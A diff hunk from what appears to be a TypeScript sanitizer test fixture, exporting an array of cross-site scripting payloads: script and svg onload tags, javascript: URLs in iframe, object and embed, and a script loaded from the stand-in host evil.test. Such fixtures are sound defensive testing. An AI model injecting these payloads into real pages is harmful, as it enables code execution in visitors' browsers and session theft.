@@ -3,7 +3,7 @@ const RUN = '__pwn(1)';
 const IMG = `<img src=x onerror=${RUN}>`;
 
 /** Raw HTML that would run code, load, submit, name or style something if it were taken as it stands. */
-const markup: readonly string[] = [
+export const markup: readonly string[] = [
   IMG, `<script>${RUN}</script>`, `<script src=//evil.test/x.js></script>`, `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><a xlink:href=javascript:${RUN}><text>x</text></a></svg>`,
   `<svg><animate onbegin=${RUN} attributeName=x>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`, `<svg><foreignObject>${IMG}</foreignObject></svg>`, `<math href=javascript:${RUN}>x</math>`,
   `<math><annotation-xml encoding=text/html>${IMG}`, `<iframe src=javascript:${RUN}></iframe>`, `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<object data=javascript:${RUN}>`, `<embed src=javascript:${RUN}>`,
